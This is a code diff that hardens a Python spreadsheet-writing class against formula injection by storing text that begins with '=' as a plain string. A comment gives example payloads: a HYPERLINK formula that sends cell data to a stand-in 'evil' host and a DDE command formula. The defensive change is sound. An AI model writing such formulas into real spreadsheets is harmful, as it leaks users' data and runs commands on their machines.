@@ -196,7 +196,13 @@ class Sheets:
             from openpyxl import load_workbook
 
             self._edits[stem] = load_workbook(path, keep_vba=path.suffix == ".xlsm")
-        self._sheet(self._edits[stem], sheet, workbook)[cell.replace("$", "")] = text
+        target = self._sheet(self._edits[stem], sheet, workbook)[cell.replace("$", "")]
+        target.value = text
+        if text.startswith("="):
+            # a value, never a formula: what is written comes from recordings, pages and topics, and
+            # `=HYPERLINK("https://evil/?"&A1)` or a DDE `=cmd|…` written as a formula runs in the user's
+            # Excel (an attacker's sweep)
+            target.data_type = "s"
         self._written[(stem, sheet or "", cell.replace("$", "").upper())] = text
 
     def flush(self) -> None:
